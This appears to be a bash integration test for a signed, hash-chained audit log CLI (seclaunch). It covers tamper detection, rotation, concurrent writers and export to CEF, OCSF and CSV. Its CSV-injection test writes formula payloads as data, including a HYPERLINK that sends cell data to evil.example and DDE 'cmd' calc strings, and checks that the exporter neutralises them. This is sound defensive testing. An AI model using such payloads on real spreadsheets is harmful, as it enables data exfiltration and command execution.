#!/usr/bin/env bash
# seclaunch audit: the tamper matrix through the CLI (edit, delete, insert,
# swap, truncate after a checkpoint, forged checkpoint, torn final line), each
# naming the line; rotation and concurrent writers; export to JSONL, CEF,
# OCSF and CSV checked field by field; the --since/--until/--event filters.
. "$(dirname "$0")/lib.sh"

cd "$T" || exit 1
export -n SECLAUNCH_AUDIT_LOG
PD=5e1f0c3a9b8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f
CD=9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d

check "keygen" 0 "$SL" audit keygen --secret-key k.key --public-key k.pub
check "keygen other key" 0 "$SL" audit keygen --secret-key o.key --public-key o.pub
assert "secret key is 0600" test "$(stat -c %a k.key)" = 600
check_err "keygen never overwrites" 2 "exists" "$SL" audit keygen --secret-key k.key --public-key x.pub

# 12 records with every character the exports must escape. With a checkpoint
# every 4 records the log is: 1-4 records, 5 checkpoint, 6-9, 10 checkpoint,
# 11-14, 15 checkpoint, 16 closing checkpoint. Line n holds seq n.
cat >records.jsonl <<EOF
{"event":"run.start","job_id":"job-1","details":{"command":"python train.py"}}
{"event":"run.preflight","job_id":"job-1","dataset_id":"ds|pipe=eq\\\\back","policy_digest":"$PD","decision":"allow","reasons":["region eu-west-1 in group eu"],"claims_digest":"$CD"}
{"event":"kms.challenge","job_id":"job-1"}
{"event":"kms.release","job_id":"job,\"quoted\"","dataset_id":"census 2026","key_id":"kek-1","policy_digest":"$PD","decision":"deny","reasons":["line one\nline two","a=b; c|d"],"claims_digest":"$CD"}
{"event":"kms.release","job_id":"job-1","dataset_id":"census","key_id":"kek-1","policy_digest":"$PD","decision":"allow","reasons":[{"rule":"residency[0]","ok":true}],"claims_digest":"$CD"}
{"event":"kms.key.create","key_id":"kek-2"}
{"event":"run.release","job_id":"job-1","dataset_id":"census","key_id":"kek-1","decision":"allow"}
{"event":"run.stage","job_id":"job-1","dataset_id":"census","details":{"kind":"host","size":1048576}}
{"event":"run.job.start","job_id":"job-1","details":{"pid":4242,"command":"python train.py --lr=0.1"}}
{"event":"run.job.exit","job_id":"job-1","details":{"pid":4242,"exit_code":0}}
{"event":"run.wipe","job_id":"job-1","decision":"allow"}
{"event":"run.error","job_id":"job-2","decision":"error","details":{"exit":4}}
EOF
check "append 12 records" 0 "$SL" audit append --audit-log log --checkpoint-key k.key \
	--checkpoint-every 4 --actor "tester" <records.jsonl
assert "log has 16 lines" test "$(wc -l <log)" -eq 16
assert "log is 0600" test "$(stat -c %a log)" = 600
check "verify intact log" 0 "$SL" audit verify --pubkey k.pub log
assert "verify reports 16 records and 4 checkpoints" grep -q "verified 16 records (seq 1..16) in 1 file(s): hash chain intact; 4 checkpoint signature(s) valid; ends with a closing checkpoint" "$T/out"
check "verify --require-final-checkpoint" 0 "$SL" audit verify --pubkey k.pub --require-final-checkpoint log
cp log.anchor anchor.saved
check "verify --anchor" 0 "$SL" audit verify --pubkey k.pub --anchor anchor.saved log
check "verify from SECLAUNCH_AUDIT_LOG" 0 env SECLAUNCH_AUDIT_LOG="$T/log" "$SL" audit verify --pubkey k.pub
check_err "verify needs --pubkey" 1 "pubkey" "$SL" audit verify log
check "verify --chain-only" 0 "$SL" audit verify --chain-only log
assert "--chain-only says signatures were not checked" grep -q "NOT checked" "$T/out"
echo "not a key" >bad.pub
check_err "verify with a malformed public key" 2 "bad.pub" "$SL" audit verify --pubkey bad.pub log
check_err "verify with the wrong public key" 6 "log:5 \(seq 5\): checkpoint signature: signed by key" \
	"$SL" audit verify --pubkey o.pub log

# tamper <name> <python snippet editing `lines` (a list of byte strings)>
tamper() {
	cp log "$1"
	python3 - "$1" "$2" <<'PY'
import hashlib, json, sys
path, code = sys.argv[1], sys.argv[2]
lines = open(path, 'rb').read().split(b'\n')[:-1]
def h(b): return hashlib.sha256(b).hexdigest()
exec(code)
open(path, 'wb').write(b''.join(l + b'\n' for l in lines))
PY
	# a tamper case that changed nothing would pass for the wrong reason
	assert "tamper case '$1' changed the log" test "$(cmp -s log "$1"; echo $?)" = 1
}

tamper edited 'lines[6] = lines[6].replace(b"kek-2", b"kek-3", 1)'
check_err "edited field: names the edited line" 6 "edited:8 \(seq 8\): prev: .*edited:7, seq 7" \
	"$SL" audit verify --pubkey k.pub edited

tamper deleted 'del lines[6]'
check_err "deleted line: names where the gap is" 6 "deleted:7 \(seq 8\): seq: expected seq 7" \
	"$SL" audit verify --pubkey k.pub deleted

# an inserted record with a correct seq and prev still breaks what follows
tamper inserted '
r = json.loads(lines[2]); r["seq"] = 4; r["event"] = "kms.release"; r["decision"] = "allow"; r["prev"] = h(lines[2])
lines.insert(3, json.dumps(r, separators=(",", ":")).encode())'
check_err "inserted line: names the line after it" 6 "inserted:5 \(seq 4\): seq: .*duplicate or out-of-order" \
	"$SL" audit verify --pubkey k.pub inserted

tamper swapped 'lines[5], lines[6] = lines[6], lines[5]'
check_err "swapped lines: names the first swapped line" 6 "swapped:6 \(seq 7\): seq" \
	"$SL" audit verify --pubkey k.pub swapped

tamper garbage 'lines[6] = b"{\"seq\": oops"'
check_err "unparsable line in the middle" 6 "garbage:7: parse: unparsable line" \
	"$SL" audit verify --pubkey k.pub garbage

tamper longline 'lines[6] = b"x" * (1024 * 1024 + 1)'
check_err "line over 1 MiB" 6 "longline:7: line longer than 1048576 bytes" \
	"$SL" audit verify --pubkey k.pub longline

# truncation after a checkpoint: the log that is left is a valid prefix, so
# only the closing-checkpoint requirement or an anchor can tell
tamper truncated 'del lines[15:]'
check "truncated: a plain verify cannot tell" 0 "$SL" audit verify --pubkey k.pub truncated
check_err "truncated: --require-final-checkpoint" 6 "truncated:15 \(seq 15\): final-checkpoint" \
	"$SL" audit verify --pubkey k.pub --require-final-checkpoint truncated
check_err "truncated: --anchor" 6 "truncated:15 \(seq 15\): anchor: the log ends before the anchor's checkpoint at seq 16" \
	"$SL" audit verify --pubkey k.pub --anchor anchor.saved truncated
tamper truncated2 'del lines[12:]'
check_err "truncated mid-interval: --require-final-checkpoint" 6 "truncated2:12 \(seq 12\): final-checkpoint" \
	"$SL" audit verify --pubkey k.pub --require-final-checkpoint truncated2
check_err "truncated mid-interval: records no checkpoint covers fail with --pubkey" 6 \
	"truncated2:12 \(seq 12\): unsigned-tail: the last 2 record\(s\) \(seq 11..12\) follow the last checkpoint \(seq 10\)" \
	"$SL" audit verify --pubkey k.pub truncated2
check "truncated mid-interval: --allow-unsigned-tail accepts it" 0 "$SL" audit verify --pubkey k.pub --allow-unsigned-tail truncated2
assert "the warning names the unsigned records" grep -q "warning: truncated2:12: the last 2 record(s) (seq 11..12)" "$T/err"
check_err "--allow-unsigned-tail=1 is less than the 2 unsigned records" 6 "more than --allow-unsigned-tail allows" \
	"$SL" audit verify --pubkey k.pub --allow-unsigned-tail=1 truncated2
check_err "--allow-unsigned-tail=0 is refused" 1 "allow-unsigned-tail" \
	"$SL" audit verify --pubkey k.pub --allow-unsigned-tail=0 truncated2

# a chain written from scratch without any key: every hash links, nothing is
# signed. With --pubkey that is a failure, not a valid log.
check "forger writes a whole chain without a checkpoint key" 0 "$SL" audit append --audit-log nocheckpoint <records.jsonl
check_err "a chain with no checkpoint fails with --pubkey, naming why" 6 \
	"nocheckpoint:12 \(seq 12\): unsigned-tail: no checkpoint signature covers any of the 12 record\(s\) \(seq 1..12\)" \
	"$SL" audit verify --pubkey k.pub nocheckpoint
check "a chain with no checkpoint under --allow-unsigned-tail: exit 0" 0 \
	"$SL" audit verify --pubkey k.pub --allow-unsigned-tail nocheckpoint
assert "... with a warning that nothing is authenticated" grep -q "warning: nocheckpoint:12: no checkpoint signature covers any of the 12 record(s) (seq 1..12): they are NOT authenticated" "$T/err"
check_err "export --pubkey refuses the unsigned chain too" 6 "unsigned-tail" \
	"$SL" audit export --format jsonl --pubkey k.pub nocheckpoint
: >emptylog
check_err "an empty log fails with --pubkey" 6 "emptylog: unsigned-tail: the log holds no record" \
	"$SL" audit verify --pubkey k.pub emptylog

# forged checkpoints: a record and checkpoints added with another key; and a
# checkpoint claiming the right key id with a signature by the other key
tamper forged 'del lines[14:]'
echo '{"event":"kms.release","decision":"allow"}' >one.jsonl
check "attacker appends with their own key" 0 "$SL" audit append --audit-log forged --checkpoint-key o.key <one.jsonl
check_err "forged checkpoint (other key)" 6 "forged:16 \(seq 16\): checkpoint signature: signed by key" \
	"$SL" audit verify --pubkey k.pub forged
KID=$(python3 -c 'import json,sys; print(json.loads(open(sys.argv[1]).readlines()[4])["details"]["key_id"])' log)
python3 - forged "$KID" <<'PY'
import sys
p, kid = sys.argv[1], sys.argv[2]
lines = open(p).read().split("\n")[:-1]
import json
r = json.loads(lines[-1]); r["details"]["key_id"] = kid
lines[-1] = json.dumps(r, separators=(",", ":"))
open(p, "w").write("\n".join(lines) + "\n")
PY
check_err "forged checkpoint (right key id, wrong signature)" 6 "forged:16 \(seq 16\): checkpoint signature: invalid" \
	"$SL" audit verify --pubkey k.pub forged
tamper resigned 'r = json.loads(lines[4]); r["time"] = "2020-01-01T00:00:00.000Z"; lines[4] = json.dumps(r, separators=(",", ":")).encode()'
check_err "edited checkpoint field" 6 "resigned:5 \(seq 5\): checkpoint signature: invalid" \
	"$SL" audit verify --pubkey k.pub resigned

# rolling back to an earlier session's closing checkpoint: only the anchor tells
cp log sessions
check "second session" 0 "$SL" audit append --audit-log sessions --checkpoint-key k.key <one.jsonl
cp sessions.anchor anchor2.saved
cp log rollback
check "rollback to the first session: --require-final-checkpoint cannot tell" 0 \
	"$SL" audit verify --pubkey k.pub --require-final-checkpoint rollback
check_err "rollback to the first session: the newer anchor tells" 6 "anchor: the log ends before the anchor's checkpoint at seq 18" \
	"$SL" audit verify --pubkey k.pub --anchor anchor2.saved rollback

# a torn final line (crash mid-write): reported, the records before verify
cp log torn
printf '{"seq":17,"time":"2026-11' >>torn
check "torn final line: exit 0" 0 "$SL" audit verify --pubkey k.pub torn
assert "torn final line: the warning names the line" grep -q "warning: torn:17: torn final line (25 bytes, no newline" "$T/err"
assert "torn final line: 16 records verified" grep -q "verified 16 records" "$T/out"
check_err "torn final line with --require-final-checkpoint" 6 "torn:17: final-checkpoint: the log ends with a torn line" \
	"$SL" audit verify --pubkey k.pub --require-final-checkpoint torn
check "the next writer recovers the torn line" 0 "$SL" audit append --audit-log torn --checkpoint-key k.key <one.jsonl
check "recovered log verifies with --require-final-checkpoint" 0 "$SL" audit verify --pubkey k.pub --require-final-checkpoint torn
assert "recovered torn line is named" grep -q "warning: torn:17: torn line (25 bytes, an interrupted write), recovered by seq 17" "$T/err"
python3 -c '
import sys; p = sys.argv[1]; b = open(p, "rb").read().split(b"\n"); b[16] = b[16].replace(b"17", b"18"); open(p, "wb").write(b"\n".join(b))' torn
check_err "editing the recovered torn line is detected" 6 "torn:17: torn line: its bytes differ" \
	"$SL" audit verify --pubkey k.pub torn

# rotation: the chain continues across files; --audit-log finds them
echo '{"event":"kms.challenge"}' >c.jsonl
for i in $(seq 1 40); do cat c.jsonl; done >many.jsonl
check "append with rotation" 0 "$SL" audit append --audit-log rot --checkpoint-key k.key \
	--checkpoint-every 10 --rotate-bytes 3000 <many.jsonl
NFILES=$(ls rot.0* | wc -l)
assert "at least 2 rotated files" test "$NFILES" -ge 2
check "verify rotated log via --audit-log" 0 "$SL" audit verify --pubkey k.pub --require-final-checkpoint --audit-log rot
assert "all files verified as one chain" grep -q "in $((NFILES + 1)) file(s)" "$T/out"
check_err "live file alone: the start is missing" 6 "rot:1 \(seq [0-9]+\): start" \
	"$SL" audit verify --pubkey k.pub rot
check "live file alone with --allow-partial" 0 "$SL" audit verify --pubkey k.pub --allow-partial rot
FIRST=$(ls rot.0* | head -n1)
if [ "$NFILES" -ge 2 ]; then
	check_err "a rotated file left out" 6 "rot:1 \(seq [0-9]+\): (seq|prev)" \
		"$SL" audit verify --pubkey k.pub "$FIRST" rot
fi
check "rotated files named in order" 0 "$SL" audit verify --pubkey k.pub $(ls rot.0*) rot

# concurrent writers: four processes append to one log
for p in 1 2 3 4; do
	"$SL" audit append --audit-log conc --checkpoint-key k.key --checkpoint-every 7 \
		--actor "writer-$p" <many.jsonl &
	PIDS_C[$p]=$!
done
for p in 1 2 3 4; do wait "${PIDS_C[$p]}"; done
check "four concurrent writers keep one chain" 0 "$SL" audit verify --json --pubkey k.pub conc
assert "160 records plus 20 interval and 4 closing checkpoints" \
	python3 -c 'import json,sys; r = json.load(open(sys.argv[1])); sys.exit(0 if r["records"] == 184 and r["checkpoints"] == 24 else 1)' "$T/out"

# export: refuses a broken chain, says what it verified
check_err "export refuses a broken chain" 6 "refusing to export a broken chain.*edited:8" \
	"$SL" audit export --format cef --pubkey k.pub edited
assert "nothing exported from a broken chain" test ! -s "$T/out"
check_err "export --no-verify says so" 0 "NOT verified" "$SL" audit export --no-verify --format jsonl edited
check_err "export without --pubkey says signatures were not checked" 0 "hash chain intact; checkpoint signatures NOT checked" \
	"$SL" audit export --format jsonl log
check_err "export says what it verified" 0 "verified 16 records .* 4 checkpoint signature\(s\) valid" \
	"$SL" audit export --format jsonl --pubkey k.pub log
assert "jsonl export is the log, byte for byte" cmp "$T/out" log
check_err "unknown format" 1 "format" "$SL" audit export --format xml log

check "export cef" 0 "$SL" audit export --format cef --pubkey k.pub -o out.cef log
check "export ocsf" 0 "$SL" audit export --format ocsf --pubkey k.pub -o out.ocsf log
check "export csv" 0 "$SL" audit export --format csv --pubkey k.pub -o out.csv log
check_err "export -o never overwrites" 2 "out.csv" "$SL" audit export --format csv -o out.csv log

assert "CEF fields match the records" python3 - log out.cef <<'PY'
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
out = open(sys.argv[2], newline="").read().split("\n")[:-1]
assert len(out) == len(recs), (len(out), len(recs))
def header(line):
    assert line.startswith("CEF:0|")
    fields, cur, i = [], "", 4
    while len(fields) < 7:
        c = line[i]
        if c == "\\":
            assert line[i + 1] in "\\|", line
            cur += line[i + 1]; i += 2; continue
        if c == "|":
            fields.append(cur); cur = ""; i += 1; continue
        assert c not in "\r\n"
        cur += c; i += 1
    return fields, line[i:]
def ext(s):
    eqs, j = [], 0
    while j < len(s):
        if s[j] == "\\":
            assert s[j + 1] in "\\=nr", s
            j += 2; continue
        if s[j] == "=": eqs.append(j)
        j += 1
    keys = []
    for e in eqs:
        k = e
        while k > 0 and s[k - 1] != " ": k -= 1
        keys.append((k, e))
    out = {}
    for n, (k, e) in enumerate(keys):
        end = keys[n + 1][0] - 1 if n + 1 < len(keys) else len(s)
        raw, v, j = s[e + 1:end], "", 0
        while j < len(raw):
            if raw[j] == "\\":
                v += {"\\": "\\", "=": "=", "n": "\n", "r": "\r"}[raw[j + 1]]; j += 2
            else:
                v += raw[j]; j += 1
        assert s[k:e] not in out
        out[s[k:e]] = v
    return out
names = {"kms.release": "Key release", "run.job.exit": "Job exited", "checkpoint": "Audit log checkpoint"}
for r, line in zip(recs, out):
    h, e = header(line)
    x = ext(e)
    assert h[0] == "0" and h[1] == "seclaunch" and h[2] == "seclaunch", h
    assert h[4] == r["event"], (h, r)
    if r["event"] in names: assert h[5] == names[r["event"]], h
    assert h[6] == {"deny": "7", "error": "5"}.get(r["decision"], "3"), h
    assert x["externalId"] == str(r["seq"])
    assert x["dvchost"] == r["host"] and x["suser"] == r["actor"] == "tester"
    from datetime import datetime, timezone
    t = datetime.strptime(r["time"], "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=timezone.utc)
    assert int(x["rt"]) == round(t.timestamp() * 1000), (x["rt"], r["time"])
    for n, (f, label) in enumerate([("job_id", "jobId"), ("dataset_id", "datasetId"), ("key_id", "keyId"),
                                    ("policy_digest", "policyDigest"), ("claims_digest", "claimsDigest"),
                                    ("prev", "prevHash")], 1):
        if r[f] is None:
            assert "cs%d" % n not in x
        else:
            assert x["cs%dLabel" % n] == label and x["cs%d" % n] == r[f], (f, x)
    assert x.get("act") == r["decision"]
    if r["decision"]:
        assert x["outcome"] == ("success" if r["decision"] == "allow" else "failure")
    if r["reasons"]:
        assert x["reason"] == "; ".join(s if isinstance(s, str) else json.dumps(s, separators=(",", ":")) for s in r["reasons"]), x["reason"]
    if r["details"] is not None:
        assert json.loads(x["msg"]) == r["details"]
    else:
        assert "msg" not in x
# the escaping cases really were exercised
assert "\\|" not in out[1].split("|", 7)[-1] and "ds|pipe\\=eq\\\\back" in out[1], out[1]
assert "line one\\nline two" in out[3] and "a\\=b; c|d" in out[3], out[3]
PY

check "OCSF export validates against OCSF 1.3.0 (tests/vectors/ocsf)" 0 \
	python3 "$SL_ROOT/tests/integration/ocsf_validate.py" --schema "$SL_VECTORS/ocsf" out.ocsf ||
	sed 's/^/    /' "$T/out" | head -n 20
assert "OCSF export covers every class the export maps to" python3 -c '
import json, sys
got = {json.loads(l)["class_uid"] for l in open(sys.argv[1])}
sys.exit(0 if got == {0, 6003, 6002, 3004, 1007} else print(sorted(got)) or 1)' out.ocsf
assert "OCSF events match the records" python3 - log out.ocsf <<'PY'
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
evs = [json.loads(l) for l in open(sys.argv[2])]
assert len(evs) == len(recs)
# kms.challenge and kms.release here name no client (no details.subject), and
# API Activity requires the caller's endpoint: they are Base Events
cls = {"kms.release": (0, 99), "run.release": (6003, 2), "kms.challenge": (0, 99),
       "kms.key.create": (3004, 1), "run.start": (6002, 3), "run.job.start": (1007, 1),
       "run.job.exit": (1007, 2), "run.preflight": (0, 99), "run.stage": (0, 99),
       "run.wipe": (0, 99), "run.error": (0, 99), "checkpoint": (0, 99)}
from datetime import datetime, timezone
for r, e in zip(recs, evs):
    c, a = cls[r["event"]]
    assert e["class_uid"] == c and e["activity_id"] == a, (r["event"], e["class_uid"])
    assert e["category_uid"] == c // 1000 and e["type_uid"] == c * 100 + a
    if a == 99:
        assert e["activity_name"] == r["event"]
    t = datetime.strptime(r["time"], "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=timezone.utc)
    assert e["time"] == round(t.timestamp() * 1000)
    md = e["metadata"]
    assert md["uid"] == str(r["seq"]) and md["version"] == "1.3.0"
    assert md["product"] == {"name": "seclaunch", "vendor_name": "seclaunch", "version": md["product"]["version"]}
    assert e["status_id"] == {"allow": 1, "deny": 2, "error": 2, None: 0}[r["decision"]]
    assert e["severity_id"] == {"deny": 3, "error": 4}.get(r["decision"], 1)
    assert e["unmapped"] == r
    # actor and device only where the class takes them; the host profile
    # declared where they come from it
    assert ("actor" in e) == (c != 0) and ("device" in e) == (c in (6002, 3004, 1007)), r["event"]
    assert md.get("profiles") == (["host"] if c in (6002, 3004) else None), r["event"]
    if "actor" in e:
        assert e["actor"]["user"]["name"] == r["actor"]
    if "device" in e:
        assert e["device"] == {"hostname": r["host"], "type_id": 0}
    if c == 6003:
        assert e["api"]["operation"] == r["event"] and e["src_endpoint"] == {"hostname": r["host"]}
    if c == 6002:
        assert e["app"]["name"] == "seclaunch" and e["app"]["vendor_name"] == "seclaunch"
    if c == 3004:
        assert e["entity"] == {"uid": r["key_id"], "type": "KEK"}
    if c == 1007:
        assert e["process"]["pid"] == 4242
    if r["event"] == "run.job.exit":
        assert e["exit_code"] == 0
    if r["reasons"]:
        assert "status_detail" in e
PY

assert "CSV rows match the records (RFC 4180)" python3 - log out.csv <<'PY'
import csv, json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
raw = open(sys.argv[2], newline="").read()
assert raw.endswith("\r\n")
rows = list(csv.reader(open(sys.argv[2], newline=""), strict=True))
cols = ["seq", "time", "host", "actor", "event", "job_id", "dataset_id", "key_id", "policy_digest",
        "decision", "reasons", "claims_digest", "details", "prev"]
assert rows[0] == cols, rows[0]
assert len(rows) == len(recs) + 1
for r, row in zip(recs, rows[1:]):
    for c, v in zip(cols, row):
        want = r[c]
        if want is None:
            assert v == "", (c, v)
        elif c in ("reasons", "details"):
            assert json.loads(v) == want, (c, v)
        else:
            assert v == str(want), (c, v, want)
assert '"job,""quoted"""' in raw and '"[""line one\\nline two""' in raw
PY

# CSV injection: fields a client controls (dataset_id, job_id, key_id, ...)
# that a spreadsheet would run as a formula are exported with a leading '
python3 - >inject.jsonl <<'PY'
import json
for ds, job in [("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0"),
                ("-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"), ("\t=1+1", "\r=1+1"),
                ("plain-id", "=1,2")]:
    print(json.dumps({"event": "kms.release", "dataset_id": ds, "job_id": job, "key_id": "kek-1"}))
PY
check "append records with formula-like fields" 0 "$SL" audit append --audit-log inject --checkpoint-key k.key <inject.jsonl
check "export csv of them" 0 "$SL" audit export --format csv --pubkey k.pub -o inject.csv inject
assert "every formula-like cell starts with ' and keeps its text; others are unchanged" python3 - inject inject.csv <<'PY'
import csv, json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
rows = list(csv.DictReader(open(sys.argv[2], newline=""), strict=True))
assert len(rows) == len(recs)
seen = 0
for r, row in zip(recs, rows):
    for c in ("dataset_id", "job_id", "key_id", "event", "actor"):
        want = r[c] or ""
        if want[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert row[c] == "'" + want, (c, row[c], want)
            seen += 1
        else:
            assert row[c] == want, (c, row[c], want)
    for v in row.values():
        assert v[:1] not in ("=", "+", "-", "@", "\t", "\r"), (row, v)
assert seen == 7, seen
PY
assert "the quoted formula cell is neutralised inside its quotes" grep -q "\"'=1,2\"" inject.csv

# filters: two sessions a second apart
echo '{"event":"kms.release","decision":"allow","job_id":"late"}' >late.jsonl
cp log filt
sleep 1.1
check "a later session" 0 "$SL" audit append --audit-log filt --checkpoint-key k.key <late.jsonl
SINCE=$(python3 -c 'import json,sys; print([json.loads(l) for l in open(sys.argv[1])][16]["time"])' filt)
check "export --since" 0 "$SL" audit export --pubkey k.pub --since "$SINCE" filt
assert "--since keeps exactly the later session" python3 -c '
import json, sys
got = [json.loads(l)["seq"] for l in open(sys.argv[1])]
assert got == [17, 18], got' "$T/out"
check "export --until" 0 "$SL" audit export --pubkey k.pub --until "$SINCE" filt
assert "--until keeps exactly the first session" python3 -c '
import json, sys
got = [json.loads(l)["seq"] for l in open(sys.argv[1])]
assert got == list(range(1, 17)), got' "$T/out"
check "export --event" 0 "$SL" audit export --pubkey k.pub --event kms.release --format csv filt
assert "--event keeps only that event" python3 -c '
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
assert [r["seq"] for r in rows] == ["4", "6", "17"], rows' "$T/out"
check "export --event prefix" 0 "$SL" audit export --pubkey k.pub --event "run.*" filt
assert "--event run.* keeps every run event" test "$(wc -l <"$T/out")" -eq 8
check "export --since and --event combined" 0 "$SL" audit export --pubkey k.pub --since "$SINCE" --event checkpoint filt
assert "combined filters" test "$(wc -l <"$T/out")" -eq 1
check_err "bad --since" 1 "since" "$SL" audit export --since yesterday filt

# seclaunchd writes its log through the same module: after a clean stop the
# log ends with a closing checkpoint signed by the key it made in --dev mode
if [ -x "$SLD" ]; then
	start_kms "$T/kms"
	curl -s --cacert "$KMS_CA" -X POST "$KMS_URL/v1/challenge" -d '{}' >/dev/null
	curl -s --cacert "$KMS_CA" -X POST -H "Authorization: Bearer $(cat "$KMS_TOKEN")" \
		"$KMS_URL/v1/keys" -d '{"id":"audit-kek"}' >/dev/null
	stop_pid "$KMS_PID"
	check "seclaunchd's log verifies with its closing checkpoint" 0 "$SL" audit verify \
		--pubkey "$KMS_STATE/audit.pub" --require-final-checkpoint --anchor "$KMS_STATE/audit.log.anchor" \
		--audit-log "$KMS_STATE/audit.log"
	check "seclaunchd's log exports" 0 "$SL" audit export --format cef --pubkey "$KMS_STATE/audit.pub" \
		--event kms.key.create "$KMS_STATE/audit.log"
	assert "the key creation is in the export" grep -q "|kms.key.create|Key encryption key created|.*cs3=audit-kek" "$T/out"
else
	skip "seclaunchd's log" "no seclaunchd binary in $SL_BIN"
fi

finish
